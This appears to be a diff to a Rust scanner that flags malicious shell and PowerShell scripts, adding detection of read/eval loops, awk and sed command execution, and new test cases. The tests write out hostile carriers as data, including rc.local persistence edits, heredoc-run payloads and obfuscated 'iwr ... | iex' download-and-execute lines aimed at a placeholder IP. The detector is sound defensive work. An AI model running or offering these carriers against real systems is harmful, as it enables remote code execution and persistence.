@@ -11,6 +11,8 @@ use crate::user_data::{Language, places};
 
 /// Arguments of one command that are followed.
 const MAX_TEXTS: usize = 16;
+/// Commands behind a `read` that may evaluate what it took in.
+const MAX_BEHIND: usize = 32;
 /// Lines of input that `xargs` and `parallel` are taken to run a command for.
 const MAX_ITEMS: usize = 16;
 
@@ -50,7 +52,7 @@ impl Scan {
             return command.args().iter().any(|word| word.text == "-c" || word.text == "config");
         }
         // Keys of a Redis server are how a crontab is written over the network.
-        if matches!(name, "redis-cli" | "set" | "SET") {
+        if matches!(name, "redis-cli" | "set" | "SET" | "alias") {
             return true;
         }
         let classes = classes(name);
@@ -161,13 +163,43 @@ impl Scan {
         }
     }
 
+    /// What `read` or `mapfile` takes in and a command behind it evaluates: `while read l; do eval "$l"; done`.
+    pub(super) fn evaluated_input(&mut self, index: usize) -> Option<Span> {
+        let command = self.script.commands.get(index)?;
+        if !matches!(command.name.as_str(), "read" | "mapfile" | "readarray") {
+            return None;
+        }
+        let unit = command.unit;
+        let names: Vec<&str> = command.operands().map(|word| word.text.as_str()).collect();
+        let evaluates = |other: &Command| {
+            let runs = other.name.is_empty() || other.name == "eval" || language_of(&other.name).is_some();
+            runs && other.unit == unit
+                && other.words.iter().flat_map(Word::vars).any(|name| names.contains(&name.as_str()))
+        };
+        if !self.script.commands.iter().skip(index + 1).take(MAX_BEHIND).any(evaluates) {
+            return None;
+        }
+        let text = self.input_of(index, 0)?.text();
+        Some(self.unit(UnitKind::Stdin, Language::Shell, &text, Some(index as u32)))
+    }
+
     /// What the program text of `awk` hands to a shell, and what `expect` starts.
     pub(super) fn program_text(&self, index: usize) -> Option<(Language, String)> {
         let command = self.script.commands.get(index)?;
         match command.name.as_str() {
             "awk" | "gawk" | "mawk" => {
-                let text = command.args().iter().find(|word| word.text.contains('{'))?;
-                Some((Language::Other, text.text.clone()))
+                let program = command.args().iter().find(|word| word.text.contains('{'))?;
+                // `system("...")`, `"..." | getline`, `print "..." | "sh"`, `c = "..."; system(c)`
+                let texts = super::files::all_literals(&program.text);
+                let commands: Vec<String> = texts.iter().filter_map(|text| command_text(text)).collect();
+                (!commands.is_empty()).then(|| (Language::Shell, commands.join("\n")))
+            }
+            "sed" => {
+                // `1e COMMAND`
+                let program = command.operands().next()?.text.as_str();
+                let program =
+                    program.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ','));
+                program.strip_prefix("e ").map(|text| (Language::Shell, text.to_owned()))
             }
             "expect" => {
                 let at = command.args().iter().position(|word| word.text.starts_with("-c"))?;
@@ -258,9 +290,9 @@ pub(super) fn command_text(text: &str) -> Option<String> {
     // `alias.x=!...`, `--use-compress-program=...`, `APT::Update::Pre-Invoke::=...`
     if let Some((key, value)) = text.split_once('=')
         && !key.contains([' ', '\t', '"', '\''])
-        && (key.contains(['.', ':', '-']) || value.starts_with('!'))
+        && (key.contains(['.', ':', '-']) || value.starts_with(['!', '[']))
     {
-        let value = value.trim_start_matches(['!', '=', ' ', '"', '\'']);
+        let value = value.trim_start_matches(['!', '=', ' ', '"', '\'', '[']).trim_end_matches(['"', ']']);
         return reads_as_command(value).then(|| value.to_owned());
     }
     if reads_as_command(text) {
@@ -302,7 +334,7 @@ fn begins_with_program(part: &str, first: bool) -> bool {
 }
 
 /// What a Tcl script starts: `spawn sh -c {...}`, `exec ...`, `send "...\r"`.
-fn tcl_commands(text: &str) -> String {
+pub(super) fn tcl_commands(text: &str) -> String {
     let mut out = String::new();
     for statement in text.split(['\n', ';']) {
         let statement = statement.trim();
@@ -404,6 +436,19 @@ mod tests {
             "ruby -e 'puts \"PAYLOAD\"' | sh",
             "grep '^#: ' $0 | cut -c4- | sh\nexit\n#: PAYLOAD",
             "vendor-tool --hook 'PAYLOAD'",
+            "awk 'BEGIN { c = \"PAYLOAD\"; system(c) }'",
+            "awk 'BEGIN { print \"PAYLOAD\" | \"sh\" }'",
+            "sed '1e PAYLOAD' /etc/hostname",
+            "while read -r l; do eval \"$l\"; done <<< 'PAYLOAD'",
+            "printf '%s\\n' 'PAYLOAD' | while read l; do bash -c \"$l\"; done",
+            "mapfile -t l <<< 'PAYLOAD'; eval \"${l[0]}\"",
+            "install -m 755 /dev/stdin /opt/a <<< 'PAYLOAD'; /opt/a",
+            "cat > a <<'X'\nPAYLOAD\nX\n. ./a",
+            "ed -s /etc/rc.local <<'X'\na\nPAYLOAD\n.\nw\nX",
+            "sed -i 's#^exit 0#PAYLOAD\\nexit 0#' /etc/rc.local",
+            "expect <<'X'\nspawn sh -c \"PAYLOAD\"\nexpect eof\nX",
+            "make -f - <<'X'\nall:\n\tPAYLOAD\nX",
+            "aws ssm send-command --parameters 'commands=[\"PAYLOAD\"]'",
             "printf 'all:\\n\\tPAYLOAD\\n' > Makefile; make all",
         ] {
             let text = format!("#!/bin/bash\n{}\n", carrier.replace("PAYLOAD", payload));
@@ -444,6 +489,29 @@ mod tests {
             let (found, ids) = conclusion(&format!("#!/bin/bash\n{text}\n"));
             assert!(found == Conclusion::Suspicious && ids.contains(&"exe-01"), "{text}: {ids:?}");
         }
+    }
+
+    #[test]
+    fn a_file_that_an_unknown_program_fetched_and_a_shell_runs_is_a_download() {
+        let (_, ids) = conclusion("#!/bin/bash\n/opt/get http://198.51.100.23/p > /opt/k\nsh /opt/k\n");
+        assert!(ids.contains(&"exe-04"), "{ids:?}");
+    }
+
+    #[test]
+    fn powershell_text_that_is_evaluated_is_read_and_a_path_that_is_assigned_is_not_run() {
+        let script = |body: &str| conclusion(&format!("<powershell>\n{body}\n</powershell>\n"));
+        for body in [
+            "$t = 'iwr http://198.51.100.23/p | iex'; iex $t",
+            "& ([scriptblock]::Create('iwr http://198.51.100.23/p | iex'))",
+            "Start-Process powershell '-nop -c \"iwr http://198.51.100.23/p | iex\"'",
+            "# note\riwr http://198.51.100.23/p | iex",
+            "&(-join('i','e','x')) (iwr http://198.51.100.23/p)",
+        ] {
+            let (found, ids) = script(body);
+            assert_eq!(found, Conclusion::Suspicious, "{body}: {ids:?}");
+        }
+        let honest = "$file = \"C:\\Users\\Public\\settings.json\"\nInvoke-WebRequest https://vendor.example/s.json -OutFile $file\nGet-Content $file";
+        assert_eq!(script(honest), (Conclusion::Clean, Vec::new()));
     }
 
     #[test]
